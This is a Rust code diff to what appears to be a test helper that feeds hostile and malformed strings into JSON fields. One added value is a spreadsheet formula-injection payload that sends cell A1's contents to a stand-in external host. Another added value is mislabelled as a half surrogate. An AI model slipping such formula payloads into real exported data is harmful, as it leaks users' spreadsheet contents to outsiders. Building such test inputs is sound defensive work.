@@ -22,6 +22,11 @@ impl HostileTexts {
         name.map_or("", String::as_str)
     }
 
+    /// The next text of all.
+    pub fn next_text(&mut self) -> &'static str {
+        self.next(&TEXTS)
+    }
+
     fn next<'a>(&mut self, texts: &'a [String]) -> &'a str {
         self.met += 1;
         texts.get(self.met % texts.len()).map_or("", String::as_str)
@@ -38,7 +43,7 @@ impl Edit for HostileTexts {
                 "time_zone" => *value = json!(self.next(&ZONES)),
                 "opens" | "closes" => *value = json!("25:61"),
                 "day" => *value = json!("<b>mon</b>"),
-                _ => *value = json!(self.next(&TEXTS)),
+                _ => *value = json!(self.next_text()),
             }
         }
         Fate::Keep
@@ -81,6 +86,8 @@ static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
         "null",
         "",
         "   ",
+        "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"Open\")",
+        "half a pair \u{e0d8} of surrogates",
     ]
     .map(str::to_owned)
     .to_vec();
